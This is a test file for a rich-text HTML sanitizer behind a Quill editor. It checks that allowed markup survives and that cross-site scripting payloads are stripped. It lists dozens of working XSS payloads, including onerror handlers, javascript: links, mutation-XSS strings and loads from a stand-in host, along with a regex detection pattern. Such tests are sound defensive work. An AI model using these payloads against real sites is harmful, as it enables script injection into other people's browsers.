import { describe, expect, test } from "vitest";
import { cleanHtml, cleanText, signedText } from "../../../server/core/rich-text.ts";
import { AppError } from "../../../server/core/app-error.ts";

const id = "01930000-0000-7000-8000-000000000001";
const own = `/api/v1/files/${id}`;

describe("what the editor writes is kept as it is", () => {
  test.each([
    ["marks", "<p><strong>a</strong> <em>b</em> <u>c</u> <s>d</s> <code>e</code></p>"],
    ["headings and a quotation", "<h2>One</h2><h3>Two</h3><blockquote>Three</blockquote>"],
    [
      "lists in lists",
      '<ol><li data-list="ordered">1</li><li data-list="bullet" class="ql-indent-1">2</li><li data-list="bullet">3</li></ol>',
    ],
    [
      "code",
      '<div class="ql-code-block-container"><div class="ql-code-block">if (a &lt; b) {</div><div class="ql-code-block">  c();</div></div>',
    ],
    ["a link", '<p><a href="https://muster.example/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">a</a></p>'],
    ["a picture", `<p><img src="${own}" alt="A street" width="300"></p>`],
    ["spaces, lines and other alphabets", "<p>a  b </p><p><br></p><p>ünïcödé 標注 👍 &amp; more</p>"],
  ])("%s", (_, html) => {
    expect(cleanHtml(html)).toBe(html);
  });
  test("except the editor's own handles", () => {
    expect(
      cleanHtml('<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>One</li></ol>'),
    ).toBe('<ol><li data-list="bullet">One</li></ol>');
  });
});

/** Anything that could run, load, frame, submit or restyle. */
const harmful =
  /<(?!\/?(?:p|br|strong|em|u|s|h2|h3|ol|ul|li|blockquote|pre|code|div|a|img)\b)[a-z!?/]|<[^>]*\s(?:on\w+|style|id|name|srcset|xlink:href|formaction)\s*=|<[^>]*(?:javascript|vbscript|data):|<img(?! src="\/api\/v1\/files\/[0-9a-f-]{36}")/i;

describe("nothing that could run or load gets through", () => {
  test.each([
    "<script>alert(1)</script>",
    "<p>a<script src=https://evil.example/x.js></script>b</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    `<img src="${own}" onerror="alert(1)" onload=alert(1) style="position:fixed" id="x">`,
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    `<img src="https://evil.example${own}">`,
    `<img src="${own}/../../../users/logout">`,
    '<img src="/api/v1/users/block/1">',
    `<img srcset="https://evil.example/x 2x" src="${own}">`,
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; java\tscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>">a</p>',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<p style="background:url(https://evil.example)">a</p>',
    "<style>@import url(https://evil.example);</style>",
    '<link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    // CVE-2025-15056: a formula's value is written out unescaped by Quill's own export.
    '<p><span class="ql-formula" data-value="<img src=x onerror=alert(1)>">x</span></p>',
    "<p><p><li><ol><a><a href=javascript:alert(1)><img src=x onerror=alert(1)></a></li></p>",
  ])("%s", (html) => {
    const clean = cleanHtml(html);
    expect(clean).not.toMatch(harmful);
    expect(cleanHtml(clean)).toBe(clean);
  });

  test("boxes in boxes without end", () => {
    const clean = cleanHtml(`${"<blockquote>".repeat(500)}<img src=x onerror=alert(1)>a${"</blockquote>".repeat(500)}`);
    expect(clean).not.toMatch(harmful);
    expect(clean.match(/<blockquote>/g)?.length).toBeLessThan(25);
  });

  test("the corpus is effective: each piece would be found without the cleaning", () => {
    expect("<img src=x onerror=alert(1)>").toMatch(harmful);
    expect('<p style="a">').toMatch(harmful);
    expect('<a href="javascript:x">').toMatch(harmful);
    expect("<svg>").toMatch(harmful);
    expect(`<p>on = 1 <img src="${own}" alt="" /></p>`).not.toMatch(harmful);
  });
});

test("bold text in another tag stays bold, a plain box becomes a paragraph, a text in a strange tag stays", () => {
  expect(cleanHtml("<h1>A</h1><div>b <b>c</b> <i>d</i></div><center>e</center>")).toBe(
    "<h2>A</h2><p>b <strong>c</strong> <em>d</em></p>e",
  );
});

test("what follows a link or a picture that goes is closed as it was opened", () => {
  expect(cleanHtml('<p><a href="javascript:x">a</a><strong>b</strong> c</p>')).toBe("<p>a<strong>b</strong> c</p>");
  expect(cleanHtml("<img src=x><p>a</p>")).toBe("<p>a</p>");
});

test("a class that Quill does not write goes", () => {
  expect(cleanHtml('<li data-list="checked" class="ql-indent-1 ant-modal">a</li>')).toBe(
    '<li class="ql-indent-1">a</li>',
  );
});

test("references to control characters go, those to others are the characters", () => {
  expect(cleanHtml("<p>a&#4;b&#x1b;c&#x7f;&#233;</p>")).toBe("<p>abcé</p>");
  expect(cleanHtml("<p>&#4;</p>")).toBe("");
});

test("empty is empty", () => {
  for (const html of ["", "<p><br></p>", "<p> </p><p>&nbsp;</p>", "<script>x</script>", "<ol><li><br></li></ol>"]) {
    expect(cleanHtml(html)).toBe("");
  }
  expect(cleanHtml(`<p><img src="${own}" alt=""></p>`)).not.toBe("");
});

const bounds = { field: "guideline", max: 300 };

test("signatures are not stored, and pictures are named once", () => {
  const read = `<p><img src="${own}?expires=1&amp;signature=x" alt="A"></p>`;
  const { html, files } = cleanText(read + read, bounds);
  expect(html).not.toMatch(/signature|expires/);
  expect(files).toEqual([id]);
});

test("pictures are signed where they are read, and nothing else is", () => {
  const { html } = cleanText(`<p>&lt;img src="${own}"&gt; <img src="${own}" alt="src=&quot;${own}&quot;"></p>`, bounds);
  const read = signedText(html, (one) => `/api/v1/files/${one}?expires=9&signature=s`);
  expect(read.match(/signature/g)).toHaveLength(1);
  expect(read).toContain(`<img src="${own}?expires=9&amp;signature=s"`);
  expect(cleanText(read, bounds).html).toBe(html);
});

test("the length counts after the cleaning too", () => {
  const grown = `<p>${'<a href="https://a.b">a</a>'.repeat(10)}</p>`;
  expect(grown.length).toBeLessThan(bounds.max);
  const refused = (() => {
    try {
      cleanText(grown, bounds);
    } catch (error) {
      return error;
    }
    return undefined;
  })();
  expect(refused).toBeInstanceOf(AppError);
  expect((refused as AppError).details.fields).toEqual({ guideline: ["At most 300 characters."] });
  expect(cleanText(`<p>a</p><style>${"x".repeat(400)}</style>`, bounds).html).toBe("<p>a</p>");
});
